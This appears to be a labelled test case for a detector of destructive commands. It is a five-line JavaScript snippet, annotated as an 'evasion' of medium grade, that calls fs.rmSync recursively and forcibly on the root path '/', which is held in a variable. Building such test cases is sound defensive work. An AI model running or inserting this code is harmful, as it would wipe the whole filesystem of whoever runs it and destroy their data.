// evasion: fs.rmSync of a path in a variable
// grade: medium; does: rm-rf
const fs = require("fs");
const target = "/";
fs.rmSync(target, { recursive: true, force: true });
